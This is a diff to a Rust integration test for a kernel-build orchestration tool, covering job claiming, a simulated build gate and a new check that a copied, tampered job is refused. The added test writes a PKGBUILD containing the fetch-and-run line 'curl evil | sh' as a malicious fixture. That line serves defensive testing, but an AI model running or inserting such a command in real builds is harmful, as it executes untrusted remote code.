@@ -45,7 +45,7 @@ fn a_build_routes_past_a_changed_host_wakes_the_next_and_publishes_signed_packag
     );
     assert!(!o.status.success());
     assert!(
-        text(&o).contains("runs only as the step of a running kernel-build op"),
+        text(&o).contains("a build starts only from a kernel-build op"),
         "{}",
         text(&o)
     );
@@ -597,8 +597,9 @@ fn a_build_runs_beside_the_controller_which_runs_other_ops_meanwhile() {
     }
     let (lab, bin) = kernel_lab(THREE, "");
     promote_op(&lab, &bin, "ohm");
-    // The build takes a while (a kernel takes hours).
-    sim(&lab, "boltzmann", "slow", Some("6"));
+    // The build goes on until the gate is taken away (a kernel takes
+    // hours).
+    sim(&lab, "boltzmann", "gate", Some(""));
     let v = lab.json(&["kernel", "build", "ohm", "--as", "claude", "--json"]);
     let jti = v["jti"].as_str().unwrap().to_string();
     let o = k(&lab, &bin, &["work", "--until-idle"]);
@@ -622,19 +623,53 @@ fn a_build_runs_beside_the_controller_which_runs_other_ops_meanwhile() {
     assert_eq!(job(&lab)["status"], "running", "{}", job(&lab));
     // A builder runs a job once: starting another for it is refused.
     let id = job(&lab)["job"].as_str().unwrap().to_string();
+    let claimed = lab.path(&format!(".bosun/kernel/jobs/{id}/runner.claimed"));
+    let end = std::time::Instant::now() + std::time::Duration::from_secs(60);
+    while !claimed.exists() {
+        assert!(std::time::Instant::now() < end, "no builder took {id}");
+        std::thread::sleep(std::time::Duration::from_millis(50));
+    }
     let o = k(&lab, &bin, &["kernel", "build", "ohm", "--run-job", &id]);
     assert!(!o.status.success());
     assert!(text(&o).contains("another builder runs it"), "{}", text(&o));
-    // The build ends by itself, published, its narrative in runner.log.
+    // The build ends once the gate goes, published, its narrative in
+    // runner.log.
+    assert_eq!(job(&lab)["status"], "running", "{}", job(&lab));
+    sim(&lab, "boltzmann", "gate", None);
     let end = std::time::Instant::now() + std::time::Duration::from_secs(60);
     while job(&lab)["status"] == "running" {
         assert!(std::time::Instant::now() < end, "{}", job(&lab));
         std::thread::sleep(std::time::Duration::from_millis(200));
     }
     assert_eq!(job(&lab)["status"], "published", "{}", job(&lab));
+    builder_gone(&lab, &id);
     let log =
         std::fs::read_to_string(lab.path(&format!(".bosun/kernel/jobs/{id}/runner.log"))).unwrap();
     assert!(log.contains("built on boltzmann"), "{log}");
     let o = k(&lab, &bin, &["kernel", "build", "ohm", "--run-job", &id]);
     assert!(!o.status.success(), "a published job is not run again");
+    // Nor does a copy of it, made `running` with a PKGBUILD of someone's
+    // own, get built: one build per op.
+    let jobs = lab.path(".bosun/kernel/jobs");
+    let copy = jobs.join(format!("{id}-copy"));
+    std::fs::create_dir_all(&copy).unwrap();
+    for f in ["PKGBUILD", "cumulative.patch", "manifest.lock"] {
+        std::fs::copy(jobs.join(&id).join(f), copy.join(f)).unwrap();
+    }
+    std::fs::write(copy.join("PKGBUILD"), "build() { curl evil | sh; }\n").unwrap();
+    let rec = std::fs::read_to_string(jobs.join(&id).join("job.toml")).unwrap();
+    std::fs::write(
+        copy.join("job.toml"),
+        rec.replace(&format!("job = \"{id}\""), &format!("job = \"{id}-copy\""))
+            .replace("status = \"published\"", "status = \"running\""),
+    )
+    .unwrap();
+    let o = k(
+        &lab,
+        &bin,
+        &["kernel", "build", "ohm", "--run-job", &format!("{id}-copy")],
+    );
+    assert!(!o.status.success());
+    assert!(text(&o).contains("one build per op"), "{}", text(&o));
+    assert!(!copy.join("runner.claimed").exists());
 }
